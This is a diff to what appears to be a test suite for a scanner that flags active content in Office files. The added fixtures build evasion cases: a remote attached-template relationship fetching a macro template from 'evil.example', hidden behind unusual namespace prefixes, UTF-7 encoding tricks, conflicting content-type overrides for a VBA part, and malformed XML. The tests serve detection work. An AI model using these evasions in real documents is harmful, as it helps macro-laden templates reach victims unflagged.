@@ -5,6 +5,18 @@ import { buildZip, type Part } from "./zip-builder.ts";
 const ms = "http://schemas.microsoft.com/office/2006/relationships";
 const macros: Part = { name: "word/vbaProject.bin", content: "Attribute VB_Name" };
 
+/** A relationship that fetches a template, without its brackets. */
+const template =
+  'Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"';
+
+function listed(relationship: string, declaration = '<?xml version="1.0"?>'): Package {
+  return { linkList: `${declaration}<Relationships>${relationship}</Relationships>` };
+}
+
+function prefixed(prefix: string): Package {
+  return listed(`<${prefix}:${template} xmlns:${prefix}="x"/>`);
+}
+
 function part(name: string): Package {
   return { parts: [{ name, content: "x" }] };
 }
@@ -75,6 +87,46 @@ const active: readonly (readonly [string, "docx" | "xlsx" | "pptx", Package])[] 
     { parts: [{ name: "ppt/embeddings/a.xlsx", content: buildZip([macros]) }] },
   ],
   ["entities", "docx", { listPrefix: '<!DOCTYPE x [<!ENTITY a "b">]>' }],
+  ["prefix of another alphabet", "docx", prefixed("é")],
+  ["prefix of many letters", "docx", prefixed("a".repeat(65))],
+  ["mode by the end of another name", "docx", listed(`<${template} xmlns:éTargetMode="Internal"/>`)],
+  ["type by the end of another name", "docx", listed(`<${template} xmlns:éType="x/hyperlink"/>`)],
+  [
+    "UTF-7 far away",
+    "docx",
+    listed(
+      `+ADw-${template.replaceAll('"', "+ACI-")}/+AD4-`,
+      `<?xml version="1.0"${" ".repeat(250)}encoding="UTF-7"?>`,
+    ),
+  ],
+  [
+    "UTF-7 with spaces",
+    "docx",
+    listed(
+      `+ADw-${template.replaceAll('"', "+ACI-")}/+AD4-`,
+      '<?xml version="1.0" encoding          ="UTF-7"?>',
+    ),
+  ],
+  [
+    "another type in a comment",
+    "docx",
+    {
+      ...part("word/x.bin"),
+      types: { "/word/x.bin": "application/vnd.ms-office.vbaProject" },
+      moreTypes: '<!-- <Override PartName="/word/x.bin" ContentType="application/xml"/> -->',
+    },
+  ],
+  [
+    "two types of one part",
+    "docx",
+    {
+      ...part("word/x.xyz"),
+      types: { "/word/x.xyz": "application/xml" },
+      moreTypes: '<Override PartName="/WORD/X.xyz" ContentType="text/plain"/>',
+    },
+  ],
+  ["a list that does not end", "docx", listed(`<${template}>`)],
+  ["a declared entity", "docx", listed(`&x;`)],
   ["UTF-7", "docx", { listPrefix: '<?xml version="1.0" encoding="UTF-7"?>' }],
 ];
 
